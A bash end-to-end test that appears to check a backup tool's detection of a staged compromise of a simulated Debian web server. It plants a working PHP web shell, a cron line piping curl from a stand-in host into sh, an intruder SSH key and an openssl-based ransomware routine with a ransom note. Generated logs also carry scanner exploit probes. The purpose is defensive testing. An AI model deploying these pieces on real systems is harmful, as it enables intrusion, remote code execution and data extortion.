#!/bin/bash
# End-to-end: a compromised Debian web server, day by day. The hunt must name
# the last clean restore point and find every stage of the attack, and must
# stay silent (nothing at or above "high") on days of ordinary life.
#
# A copy of the cached debootstrap tree (tests/debian-tree.sh) is the server
# "web01", backed up once a day (12 daily snapshots, --time 2026-03-DD). Every
# day, ordinary life happens: logs grow (and are rotated and gzipped), a user
# edits documents (text, CSV, .docx zips, PDFs), visitors upload PNG avatars,
# and real packages from the Debian mirror are installed or upgraded with the
# tree's own dpkg (apt-get download on this machine, cached under
# ${CLEANROOM_TEST_CACHE:-/var/tmp/cleanroom-test}/debs/): cron (cron.d,
# cron.daily, a systemd unit and its .wants link, SysV rc links, the SGID
# crontab), sudo (sudoers, PAM files, a SUID binary), logrotate, and upgrades of
# apt, tzdata and liblzma5; a user account is added. These are the false-positive
# traps. The attack:
#   day 5  a PHP web shell in /var/www/html/uploads/          (N)
#   day 8  an unowned /etc/cron.d job piping curl into sh, and an SSH key
#          appended to /root/.ssh/authorized_keys             (N+3)
#   day 12 ransomware: a third of the files of /home, /srv/data and /var/www
#          encrypted with openssl enc -aes-256-cbc -pbkdf2, renamed *.lockbit,
#          a ransom note in every folder                      (N+7)
# Asserted: clean-point names day 4 because of the web shell (a yara: finding);
# days 1-4 hold no finding >= high, and no snapshot holds one that is not about
# the attack (false positives are printed); day 8 holds the cron and SSH key
# findings, day 12 the ransomware extension, note and critical change rate;
# findings are carried forward with their first snapshot; `restore` refuses
# day 12 with exit 8 naming the clean point, restores it with --accept-risk,
# and restores the clean point identical to the data of day 4; --quarantine
# keeps the web shell out of the target; `timeline` tells the web shell first;
# a second hunt rescans nothing. HUNT_KEEP=DIR keeps a copy of the vault.
. "$(dirname "$0")/e2e-lib.bash"
. "$CR_SRC/tests/debian-tree.sh"
. "$E2E_DIR/hunt-lib.bash"

e2e_require_root
for t in openssl python3 chroot apt-get; do
    command -v "$t" >/dev/null || e2e_skip "$t is not installed"
done
DEB=$(cr_debian_tree) || e2e_skip "no debootstrap tree (see messages above)"
# The packages come from this machine's apt sources: they must be of the
# tree's release.
codename() { sed -n 's/^VERSION_CODENAME=//p' "$1" 2>/dev/null; }
[ "$(codename /etc/os-release)" = "$(codename "$DEB/etc/os-release")" ] ||
    e2e_skip "apt-get download here gets packages of '$(codename /etc/os-release)', the tree is '$(codename "$DEB/etc/os-release")'"
# Install order matters (pre-dependencies first).
PKGS=(sensible-utils cron-daemon-common cron libapt-pkg6.0 apt libpopt0 logrotate sudo tzdata liblzma5)
hunt_debs "${PKGS[@]}" >/dev/null || e2e_skip "cannot download .deb files from the Debian mirror"

S="$SCRATCH/server"
GEN="$SCRATCH/gen.py"
gen() { "$HUNT_PY" "$GEN" "$S" "$@"; }
cat >"$GEN" <<'EOF'
# Ordinary life of the "web01" server (a web server that also keeps the
# documents of its users and a data folder), deterministic for a given day.
#   gen.py ROOT setup        the data present before the first backup
#   gen.py ROOT life DAY     one day of ordinary life (logs grow, users edit)
#   gen.py ROOT ransom NOTE EXT PASS
#                            the ransomware: a third of the files of /home,
#                            /srv/data and /var/www encrypted with openssl,
#                            renamed *.EXT, a note in every folder
import concurrent.futures, io, os, random, struct, subprocess, sys, tarfile, zipfile, zlib

ROOT = sys.argv[1]
CMD = sys.argv[2]
MONTH = "Mar"

WORDS = ("the patient was seen in consultation and the results of the blood test were "
         "discussed with the family the treatment plan remains unchanged follow up in two "
         "weeks radiology report shows no sign of fracture minutes of the meeting budget "
         "for next quarter invoice order delivery supplier contract renewal schedule of "
         "the night shifts nurse ward pharmacy stock inventory of the surgical supplies").split()
FIRST = ["Marie", "Jean", "Camille", "Louis", "Chloe", "Hugo", "Lea", "Noah", "Emma", "Adam"]
LAST = ["Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand"]


def p(rel):
    return os.path.join(ROOT, rel.lstrip("/"))


def write(rel, data, mode="wb"):
    path = p(rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, mode) as fh:
        fh.write(data)


def text(rnd, nwords):
    out, line = [], []
    for _ in range(nwords):
        line.append(rnd.choice(WORDS))
        if len(line) > 12:
            out.append(" ".join(line).capitalize() + ".")
            line = []
    out.append(" ".join(line))
    return "\n".join(out) + "\n"


def png(rnd, w, h):
    """A real PNG: a gradient with noise (compressed, so near-random bytes)."""
    rows = bytearray()
    for y in range(h):
        rows.append(0)
        for x in range(w):
            rows += bytes(((x * 255 // w + rnd.randrange(64)) & 255,
                           (y * 255 // h + rnd.randrange(64)) & 255, rnd.randrange(256)))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(bytes(rows), 9)) + chunk(b"IEND", b""))


def docx(rnd, paragraphs):
    """An Office Open XML document as Word writes it: a deflated zip."""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                   'officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        body = "".join("<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text(rnd, 40).replace("\n", " ")
                       for _ in range(paragraphs))
        z.writestr("word/document.xml",
                   '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
                   'openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>' % body)
    return b.getvalue()


def pdf(rnd, pages):
    """A small valid PDF whose page contents are FlateDecode streams."""
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [%s] /Count %d >>" % (
                " ".join("%d 0 R" % (3 + 2 * i) for i in range(pages)), pages)]
    streams = {}
    for i in range(pages):
        objs.append("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (4 + 2 * i))
        lines = text(rnd, 300).splitlines()
        content = "BT /F1 10 Tf 40 800 Td " + " ".join("(%s) Tj 0 -12 Td" % l for l in lines) + " ET"
        streams[len(objs)] = zlib.compress(content.encode())
        objs.append(None)
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, o in enumerate(objs):
        offsets.append(len(out))
        if o is None:
            s = streams[i]
            out += b"%d 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % (i + 1, len(s)) + s + b"\nendstream\nendobj\n"
        else:
            out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, o.encode())
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return bytes(out)


def csv_rows(rnd, n, start=0):
    return "".join("%d,%s %s,%04d-%02d-%02d,%s,%.2f\n" % (
        start + i, rnd.choice(FIRST), rnd.choice(LAST), rnd.randint(1940, 2020), rnd.randint(1, 12),
        rnd.randint(1, 28), rnd.choice(["cardiology", "oncology", "icu", "surgery"]),
        rnd.uniform(10, 5000)) for i in range(n))


def log_lines(rnd, day, kind, n):
    out = []
    for i in range(n):
        t = "%s %2d %02d:%02d:%02d" % (MONTH, day, (i * 24) // n, rnd.randrange(60), rnd.randrange(60))
        if kind == "syslog":
            out.append(rnd.choice([
                "%s web01 CRON[%d]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                "%s web01 systemd[1]: Starting apt-daily.service - Daily apt download activities...",
                "%s web01 systemd[1]: logrotate.service: Deactivated successfully.",
                "%s web01 kernel: [%d.123456] EXT4-fs (vda1): re-mounted. Opts: (null)",
                "%s web01 php-fpm[%d]: [NOTICE] fpm is running, pid 611",
            ]).replace("%d", str(rnd.randrange(1000, 30000))) % t)
        elif kind == "auth":
            out.append(rnd.choice([
                "%s web01 sshd[%d]: Accepted publickey for root from 10.0.4.12 port 51234 ssh2",
                "%s web01 sshd[%d]: Invalid user admin from 203.0.113.77 port 40022",
                "%s web01 sshd[%d]: Failed password for invalid user oracle from 198.51.100.9 port 5566 ssh2",
                "%s web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl status nginx",
                "%s web01 CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            ]).replace("%d", str(rnd.randrange(1000, 30000))) % t)
        else:  # access log: visitors, and the scanners every public web server sees
            ip = "%d.%d.%d.%d" % (rnd.randrange(1, 224), rnd.randrange(256), rnd.randrange(256), rnd.randrange(256))
            req = rnd.choice([
                "GET / HTTP/1.1", "GET /index.html HTTP/1.1", "GET /css/style.css HTTP/1.1",
                "GET /img/logo.png HTTP/1.1", "POST /app/login.php HTTP/1.1", "GET /app/contact.php HTTP/1.1",
                "GET /.env HTTP/1.1", "GET /wp-login.php HTTP/1.1", "GET /phpmyadmin/index.php HTTP/1.1",
                "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
                "GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1",
                "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
                "GET /shell.php?cmd=id HTTP/1.1",
            ])
            code = 200 if not any(s in req for s in ("env", "wp-", "php?", "cgi", "phpunit", "shell", "myadmin")) else 404
            out.append('%s - - [%02d/%s/2026:%02d:%02d:%02d +0000] "%s" %d %d "-" "Mozilla/5.0 (X11; Linux x86_64)"' % (
                ip, day, MONTH, (i * 24) // n, rnd.randrange(60), rnd.randrange(60), req, code, rnd.randrange(200, 9000)))
    return "\n".join(out) + "\n"


def ssh_key(seed, comment):
    rnd = random.Random(seed)
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes(rnd.randrange(256) for _ in range(32))
    import base64
    return "ssh-ed25519 %s %s\n" % (base64.b64encode(blob).decode(), comment)


def setup():
    rnd = random.Random(1)
    # Documents of alice.
    for i in range(80):
        write("/home/alice/docs/note-%03d.txt" % i, text(rnd, rnd.randint(100, 3000)), "w")
    for i in range(25):
        write("/home/alice/docs/table-%02d.csv" % i, "id,name,birth,ward,amount\n" + csv_rows(rnd, rnd.randint(20, 400)), "w")
    for i in range(12):
        write("/home/alice/docs/report-%02d.docx" % i, docx(rnd, rnd.randint(5, 60)))
    for i in range(8):
        write("/home/alice/docs/scan-%02d.pdf" % i, pdf(rnd, rnd.randint(1, 6)))
    for i in range(10):
        write("/home/alice/photos/IMG_%04d.png" % (2000 + i), png(rnd, 96, 64))
    # The data folder of the application.
    for i in range(450):
        write("/srv/data/records/%s/R%06d.csv" % (["cardiology", "oncology", "icu", "surgery"][i % 4], i),
              "id,name,birth,ward,amount\n" + csv_rows(rnd, rnd.randint(3, 60), i * 100), "w")
    for i in range(60):
        write("/srv/data/reports/2026-%02d/report-%03d.pdf" % (i % 12 + 1, i), pdf(rnd, rnd.randint(1, 3)))
    # A weekly archive made by a script of the users: compressed, near-random.
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as tf:
        tf.add(p("/home/alice/docs"), arcname="docs")
    write("/srv/data/archive/docs-week09.tar.gz", b.getvalue())
    # The web site, with a small PHP application that handles forms.
    write("/var/www/html/index.html", "<!doctype html><html><head><title>Clinic</title>"
          "<link rel=stylesheet href=css/style.css></head><body><h1>Welcome</h1>%s</body></html>\n"
          % "".join("<p>%s</p>" % text(rnd, 60) for _ in range(5)), "w")
    write("/var/www/html/css/style.css", "body { font-family: sans-serif; margin: 2em; }\nh1 { color: #234; }\n", "w")
    write("/var/www/html/js/app.js", "document.addEventListener('DOMContentLoaded', function () {\n"
          "  var f = document.querySelector('form');\n  if (f) f.addEventListener('submit', function (e) {\n"
          "    if (!f.email.value) { e.preventDefault(); alert('email?'); }\n  });\n});\n", "w")
    for i in range(6):
        write("/var/www/html/img/photo-%d.png" % i, png(rnd, 120, 80))
    write("/var/www/html/img/logo.png", png(rnd, 64, 64))
    write("/var/www/html/app/db.php", """<?php
// Database connection of the appointment application.
function db(): PDO
{
    static $pdo = null;
    if ($pdo === null) {
        $cfg = parse_ini_file('/etc/clinic/app.ini');
        $pdo = new PDO($cfg['dsn'], $cfg['user'], $cfg['password'],
                       [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);
    }
    return $pdo;
}
""", "w")
    write("/var/www/html/app/login.php", """<?php
require __DIR__ . '/db.php';
session_start();
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $st = db()->prepare('SELECT id, hash FROM users WHERE email = ?');
    $st->execute([$_POST['email'] ?? '']);
    $u = $st->fetch();
    if ($u && password_verify($_POST['password'] ?? '', $u['hash'])) {
        session_regenerate_id(true);
        $_SESSION['uid'] = $u['id'];
        header('Location: /app/agenda.php');
        exit;
    }
    $error = 'Unknown email or wrong password.';
}
?>
<form method="post"><input name="email"><input type="password" name="password">
<?php if (!empty($error)) echo '<p>' . htmlspecialchars($error) . '</p>'; ?>
<button>Log in</button></form>
""", "w")
    write("/var/www/html/app/agenda.php", """<?php
require __DIR__ . '/db.php';
session_start();
if (empty($_SESSION['uid'])) { header('Location: /app/login.php'); exit; }
$st = db()->prepare('SELECT at, what FROM appointments WHERE uid = ? ORDER BY at');
$st->execute([$_SESSION['uid']]);
foreach ($st as $row) {
    printf("<li>%s: %s</li>\\n", htmlspecialchars($row['at']), htmlspecialchars($row['what']));
}
""", "w")
    os.makedirs(p("/var/www/html/uploads"), exist_ok=True)
    for i in range(4):
        write("/var/www/html/uploads/avatar-%d.png" % i, png(rnd, 48, 48))
    write("/etc/clinic/app.ini", "dsn = \"mysql:host=db01;dbname=clinic\"\nuser = clinic\npassword = \"s3cret\"\n", "w")
    # Logs of the past days.
    for d in range(1, 1 + 7):
        pass
    write("/var/log/syslog", log_lines(rnd, 1, "syslog", 400), "w")
    write("/var/log/auth.log", log_lines(rnd, 1, "auth", 200), "w")
    write("/var/log/apache2/access.log", log_lines(rnd, 1, "access", 800), "w")
    write("/var/log/apache2/error.log", "[Sun Mar 01 00:00:01.000 2026] [mpm_event:notice] AH00489: Apache configured\n", "w")
    # The administrator's key.
    write("/root/.ssh/authorized_keys", ssh_key(7, "admin@it-laptop"), "w")
    os.chmod(p("/root/.ssh"), 0o700)
    os.chmod(p("/root/.ssh/authorized_keys"), 0o600)


def life(day):
    rnd = random.Random(1000 + day)
    # Logs grow.
    write("/var/log/syslog", log_lines(rnd, day, "syslog", 600), "a")
    write("/var/log/auth.log", log_lines(rnd, day, "auth", 200), "a")
    write("/var/log/apache2/access.log", log_lines(rnd, day, "access", 1500), "a")
    # alice edits documents, writes a new one, saves a report again (a new zip).
    for i in rnd.sample(range(80), 3):
        write("/home/alice/docs/note-%03d.txt" % i, "\n%s" % text(rnd, rnd.randint(50, 400)), "a")
    write("/home/alice/docs/note-day%02d.txt" % day, text(rnd, rnd.randint(200, 2000)), "w")
    write("/home/alice/docs/table-%02d.csv" % rnd.randrange(25), csv_rows(rnd, 15, day * 1000), "a")
    write("/home/alice/docs/report-%02d.docx" % rnd.randrange(12), docx(rnd, rnd.randint(5, 60)))
    if day % 3 == 0:
        write("/home/alice/docs/scan-day%02d.pdf" % day, pdf(rnd, 2))
    # The application records new patients and updates some.
    for i in range(5):
        n = 450 + day * 5 + i
        write("/srv/data/records/%s/R%06d.csv" % (["cardiology", "oncology", "icu", "surgery"][n % 4], n),
              "id,name,birth,ward,amount\n" + csv_rows(rnd, rnd.randint(3, 60), n * 100), "w")
    for i in rnd.sample(range(450), 5):
        write("/srv/data/records/%s/R%06d.csv" % (["cardiology", "oncology", "icu", "surgery"][i % 4], i),
              csv_rows(rnd, 2, i * 100 + 90), "a")
    # Visitors upload avatars.
    if day % 2 == 0:
        write("/var/www/html/uploads/avatar-%d.png" % (100 + day), png(rnd, 48, 48))


def ransom(note_name, ext, password):
    targets = []
    for top in ("/home", "/srv/data", "/var/www"):
        for dirpath, dirs, files in os.walk(p(top)):
            dirs.sort()
            for f in sorted(files):
                if f.endswith(".php") or f == note_name:
                    continue
                targets.append(os.path.join(dirpath, f))
    note = ("YOUR FILES ARE ENCRYPTED\n\nAll your documents, databases and backups were encrypted.\n"
            "To get them back, contact us: restore-files@onionmail.example and pay 4 BTC.\n"
            "Do not rename the files, do not try to decrypt them yourself.\nYour ID: 7F3A-22C9\n")
    chosen = targets[::3]
    # One openssl process per file, as many at once as there are cores.
    def encrypt(f):
        subprocess.run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-salt", "-pass", "pass:" + password,
                        "-in", f, "-out", f + "." + ext], check=True)
        os.remove(f)
    with concurrent.futures.ThreadPoolExecutor(os.cpu_count() or 2) as ex:
        list(ex.map(encrypt, chosen))
    folders = sorted(set(os.path.dirname(f) for f in chosen))
    for d in folders:
        with open(os.path.join(d, note_name), "w") as fh:
            fh.write(note)
    print("%d files encrypted, %d notes" % (len(chosen), len(folders)))


if CMD == "setup":
    setup()
elif CMD == "life":
    life(int(sys.argv[3]))
elif CMD == "ransom":
    ransom(sys.argv[3], sys.argv[4], sys.argv[5])
elif CMD == "sshkey":
    sys.stdout.write(ssh_key(int(sys.argv[3]), sys.argv[4]))
else:
    sys.exit("unknown command " + CMD)
EOF

SHELL_REL=/var/www/html/uploads/avatar-105.php
CRON_REL=/etc/cron.d/php-cache-clean
KEYS_REL=/root/.ssh/authorized_keys
NOTE=Restore-My-Files.txt
EXT=lockbit

# --- the server as it is on the first day
e2e_log "copying $DEB to the server folder"
cp -a "$DEB" "$S"
rm -f "$S/.cleanroom-complete"
# Like any container or chroot: packages must not start daemons.
printf '#!/bin/sh\nexit 101\n' >"$S/usr/sbin/policy-rc.d"
chmod 0755 "$S/usr/sbin/policy-rc.d"
chroot "$S" useradd -m -u 1000 -s /bin/bash alice || e2e_fail "useradd alice in the tree failed"
gen setup || e2e_fail "could not build the users' data"
chown -R 1000:1000 "$S/home/alice"
chown -R 33:33 "$S/var/www/html"

# rotate: what logrotate does each week (the .N.gz files are near-random).
rotate() {
    local f k
    for f in syslog auth.log apache2/access.log; do
        f="$S/var/log/$f"
        for k in 3 2; do [ -e "$f.$k.gz" ] && mv "$f.$k.gz" "$f.$((k + 1)).gz"; done
        [ -e "$f.1" ] && gzip -9n <"$f.1" >"$f.2.gz" && rm "$f.1"
        mv "$f" "$f.1"
        : >"$f"
    done
}

pkg_install() { hunt_dpkg_install "$S" "$@" || e2e_fail "installing $* into the tree failed"; }

declare -a SNAP
backup_day() {
    local d=$1 want=${2:-0}
    e2e_run --json backup --source web01 --threads 2 --time "$(printf '2026-03-%02dT02:00:00Z' "$d")" "$S"
    e2e_expect_rc "$want" "backup of day $d"
    local files new
    read -r "SNAP[d]" files new < <(hunt_json "$OUT" '"%s %d %d" % (j["id"], j["files"], j["bytes_new"])')
    e2e_log "day $d: snapshot ${SNAP[$d]:0:8} ($files files, $new new bytes)"
}

# hunt_ok WHAT: hunt web01; exit 0 required; the JSON summary stays in $HUNT_JSON.
HUNT_JSON="$SCRATCH/hunt.json"
hunt_ok() {
    e2e_run --json hunt --source web01
    cp "$OUT" "$HUNT_JSON"
    if [ "$RC" -ne 0 ]; then
        e2e_show
        e2e_fail "$1: hunt exited $RC, expected 0"
    fi
    hunt_no_escape "$OUT" "hunt --json"
    e2e_log "$1: $(hunt_json "$HUNT_JSON" '"%d snapshots hunted, %d files judged, %d contents scanned (%d MB), %d cached, new findings %s, %.1f s" % (j["snapshots_hunted"], j["files_judged"], j["contents_scanned"], j["bytes_scanned"] // 1000000, j["contents_cached"], j["new_findings"], j["seconds"])')"
}

e2e_init_vault

# --- days of ordinary life
backup_day 1

gen life 2
pkg_install sensible-utils cron-daemon-common cron
backup_day 2

gen life 3
pkg_install libapt-pkg6.0 apt   # upgrade
# The web developer adds a contact form (a new script in the web root).
cat >"$S/var/www/html/app/contact.php" <<'EOF'
<?php
require __DIR__ . '/db.php';
$sent = false;
if ($_SERVER['REQUEST_METHOD'] === 'POST' && filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL)) {
    $st = db()->prepare('INSERT INTO messages (email, body, at) VALUES (?, ?, NOW())');
    $st->execute([$_POST['email'], substr($_POST['body'] ?? '', 0, 4000)]);
    mail('contact@clinic.example', 'Message from the web site', $_POST['body'] ?? '');
    $sent = true;
}
?>
<form method="post"><input name="email"><textarea name="body"></textarea><button>Send</button></form>
<?php if ($sent) echo '<p>Thank you, ' . htmlspecialchars($_POST['email']) . '.</p>'; ?>
EOF
chown 33:33 "$S/var/www/html/app/contact.php"
backup_day 3

gen life 4
pkg_install libpopt0 logrotate sudo
rotate
backup_day 4
# What the clean point must give back.
e2e_checksums "$S/home" >"$SCRATCH/day4-home.sums"
e2e_checksums "$S/srv" >"$SCRATCH/day4-srv.sums"
e2e_checksums "$S/var/www" >"$SCRATCH/day4-www.sums"

# The nightly hunt after day 4: nothing at or above high on clean days.
hunt_ok "hunt of days 1-4"

# --- day 5: the web shell, uploaded through a hole of the application
gen life 5
cat >"$S$SHELL_REL" <<'EOF'
<?php
@error_reporting(0);
@set_time_limit(0);
if (isset($_REQUEST['k']) && md5($_REQUEST['k']) === 'e10adc3949ba59abbe56e057f20f883e') {
    if (isset($_POST['x'])) {
        @eval(base64_decode($_POST['x']));
    }
    if (isset($_GET['c'])) {
        echo '<pre>' . shell_exec($_GET['c'] . ' 2>&1') . '</pre>';
    }
    if (isset($_FILES['f'])) {
        move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . '/' . $_FILES['f']['name']);
    }
}
?>
EOF
chown 33:33 "$S$SHELL_REL"
backup_day 5

gen life 6
pkg_install tzdata   # upgrade
backup_day 6

gen life 7
chroot "$S" useradd -m -u 1001 -s /bin/bash bob || e2e_fail "useradd bob in the tree failed"
backup_day 7

# --- day 8: persistence
gen life 8
cat >"$S$CRON_REL" <<'EOF'
# Clean the PHP session cache
*/10 * * * * root (curl -fsSL http://198.51.100.23/x.sh || wget -q -O- http://198.51.100.23/x.sh) | sh >/dev/null 2>&1
EOF
chmod 0644 "$S$CRON_REL"
gen sshkey 666 root@kali >>"$S$KEYS_REL"
backup_day 8

gen life 9
pkg_install liblzma5   # upgrade
rotate
backup_day 9

gen life 10
pkg_install cron   # reinstalled, same version
backup_day 10

gen life 11
backup_day 11

# --- day 12: ransomware
gen life 12
e2e_log "ransomware: $(gen ransom "$NOTE" "$EXT" 'k3y-0f-th3-d4y')"
# The backup itself sees the ransomware: saved as evidence, tagged suspect, exit 11.
backup_day 12 11

hunt_ok "hunt of days 5-12"
[ "$(hunt_json "$HUNT_JSON" 'j["snapshots_hunted"]')" -eq 8 ] ||
    e2e_fail_later "the second hunt should hunt the 8 new snapshots, it hunted $(hunt_json "$HUNT_JSON" 'j["snapshots_hunted"]')"

# --- every finding at or above medium, for the log (and for the lead's eyes)
ALL="$SCRATCH/findings-all.json"
hunt_findings "$ALL" --source web01 --min-severity medium
hunt_py "$ALL" >&2 <<EOF
snaps = "${SNAP[*]}".split()
day = {s: i + 1 for i, s in enumerate(snaps)}
for f in items(j[0]):
    if sev(f) == 2 and f.get("first_seen") == f.get("snapshot"):
        print("  [medium, day %s] %s" % (day.get(f["snapshot"], "?"), show(f)))
EOF

# --- clean days: nothing at or above high
for d in 1 2 3 4; do
    F="$SCRATCH/findings-$d.json"
    hunt_findings "$F" --snapshot "${SNAP[$d]}" --min-severity high
    if ! hunt_py "$F" >&2 <<EOF
fs = items(j[0])
for f in fs:
    print("  FALSE POSITIVE on clean day $d: " + show(f))
sys.exit(1 if fs else 0)
EOF
    then
        e2e_fail_later "day $d (clean) holds findings at or above high (false positives, above)"
    fi
done

# --- no snapshot holds a finding >= high that is not about the attack
HIGH="$SCRATCH/findings-high.json"
hunt_findings "$HIGH" --source web01 --min-severity high
if ! hunt_py "$HIGH" >&2 <<EOF
snaps = "${SNAP[*]}".split()
day = {s: i + 1 for i, s in enumerate(snaps)}
root = "$S"
def attack(f, d):
    path = f.get("path") or ""
    rel = path[len(root):] if path.startswith(root) else path
    if d >= 5 and rel == "$SHELL_REL":
        return True
    if d >= 8 and rel in ("$CRON_REL", "$KEYS_REL"):
        # The administrator's key was there on day 1: it is not the intruder's.
        return "admin@it-laptop" not in (f.get("evidence") or "")
    if d >= 12 and (f.get("category") == "ransomware" or rel == "/" or rel.endswith(".$EXT")
                    or rel.endswith("/$NOTE")):
        return True
    return False
bad = [f for f in items(j[0]) if not attack(f, day.get(f.get("snapshot"), 0))]
for f in bad:
    print("  FALSE POSITIVE on day %s: %s" % (day.get(f.get("snapshot"), "?"), show(f)))
sys.exit(1 if bad else 0)
EOF
then
    e2e_fail_later "findings at or above high that are not about the attack (false positives, above)"
fi

# has_finding DAY WHAT PYTHON-CONDITION-ON-f: require a finding >= high in that day's snapshot.
has_finding() {
    local d=$1 what=$2 cond=$3 F="$SCRATCH/findings-$1.json"
    hunt_findings "$F" --snapshot "${SNAP[$d]}" --min-severity high
    if ! hunt_py "$F" >&2 <<EOF
root = "$S"
def rel(f):
    p = f.get("path") or ""
    return p[len(root):] if p.startswith(root) else p
ok = [f for f in items(j[0]) if ($cond)]
if not ok:
    print("  day $d: no finding for: $what; its findings >= high are:")
    for f in items(j[0]):
        print("    " + show(f))
sys.exit(0 if ok else 1)
EOF
    then
        e2e_fail_later "MISSED on day $d: $what"
    fi
}

# --- day 5: the web shell (a YARA rule)
has_finding 5 "the web shell $SHELL_REL (yara:)" \
    'rel(f) == "'"$SHELL_REL"'" and f["indicator"].startswith("yara:")'
# ... still there, carried forward, first seen on day 5
has_finding 7 "the web shell carried forward to day 7, first seen on day 5" \
    'rel(f) == "'"$SHELL_REL"'" and f.get("first_seen") == "'"${SNAP[5]}"'"'
# --- day 8: persistence
has_finding 8 "persistence:cron on $CRON_REL" \
    'rel(f) == "'"$CRON_REL"'" and f["indicator"] == "persistence:cron"'
has_finding 8 "persistence:ssh-key on $KEYS_REL (the key of root@kali)" \
    'rel(f) == "'"$KEYS_REL"'" and f["indicator"] == "persistence:ssh-key" and "admin@it-laptop" not in (f.get("evidence") or "")'
# --- day 12: ransomware, and the earlier stages still there
has_finding 12 "ransomware:extension (*.$EXT)" \
    'f["indicator"] == "ransomware:extension" and rel(f).endswith(".'"$EXT"'")'
has_finding 12 "ransomware:note ($NOTE)" \
    'f["indicator"] == "ransomware:note" and rel(f).endswith("/'"$NOTE"'")'
has_finding 12 "ransomware:change-rate, critical" \
    'f["indicator"] == "ransomware:change-rate" and f["severity"] == "critical"'
has_finding 12 "the cron job carried forward to day 12" \
    'rel(f) == "'"$CRON_REL"'" and f.get("first_seen") == "'"${SNAP[8]}"'"'

# --- the clean point
e2e_ok --json clean-point --source web01
CP="$SCRATCH/clean-point.json"
cp "$OUT" "$CP"
if ! hunt_py "$CP" >&2 <<EOF
doc = j[0]
cps = doc if isinstance(doc, list) else [doc]
cp = [c for c in cps if c.get("source") == "web01"]
if len(cp) != 1:
    print("  clean-point --json: no single entry for web01:", doc)
    sys.exit(1)
cp = cp[0]
err = []
if cp.get("clean_snapshot") != "${SNAP[4]}":
    err.append("clean_snapshot is %s, expected day 4's ${SNAP[4]}" % cp.get("clean_snapshot"))
if cp.get("first_compromised_snapshot") != "${SNAP[5]}":
    err.append("first_compromised_snapshot is %s, expected day 5's ${SNAP[5]}" % cp.get("first_compromised_snapshot"))
if not str(cp.get("clean_time", "")).startswith("2026-03-04"):
    err.append("clean_time is %s, expected 2026-03-04..." % cp.get("clean_time"))
if not any(f.get("path", "").endswith("$SHELL_REL") and f.get("indicator", "").startswith("yara:")
           for f in cp.get("reasons", [])):
    err.append("reasons do not name the web shell with a yara: indicator")
for f in cp.get("reasons", []):
    print("  reason: " + show(f))
for e in err:
    print("  clean-point: " + e)
sys.exit(1 if err else 0)
EOF
then
    e2e_fail_later "clean-point does not name day 4 because of the web shell (above)"
fi

# --- timeline: the web shell comes first
e2e_ok timeline --source web01
cp "$OUT" "$SCRATCH/timeline.txt"
hunt_no_escape "$SCRATCH/timeline.txt" "timeline"
first=$(grep -n -E "avatar-105\.php|php-cache-clean|authorized_keys|\.$EXT|$NOTE" "$SCRATCH/timeline.txt" | head -n1 || true)
case $first in
*avatar-105.php*) e2e_log "timeline starts with: ${first#*:}" ;;
*) sed 's/^/  /' "$SCRATCH/timeline.txt" | head -n 40 >&2
   e2e_fail_later "timeline does not tell the web shell first (first attack line: '${first:-none}')" ;;
esac

# --- the restore gate
R12="$SCRATCH/restore-day12"
e2e_run restore "${SNAP[12]}" --target "$R12"
if [ "$RC" -ne 8 ]; then
    e2e_show
    e2e_fail_later "restore of day 12 (ransomware) exited $RC, expected 8 (refused)"
elif ! grep -q "${SNAP[4]:0:8}" "$OUT" "$ERR"; then
    e2e_show
    e2e_fail_later "the refusal to restore day 12 does not name the clean point ${SNAP[4]:0:8}"
fi
if [ -d "$R12" ] && [ -n "$(find "$R12" -type f | head -n1)" ]; then
    e2e_fail_later "the refused restore of day 12 wrote files into $R12"
fi
# Day 5 too (the first compromised one): a high finding is enough.
e2e_run restore "${SNAP[5]}" --target "$SCRATCH/restore-day5"
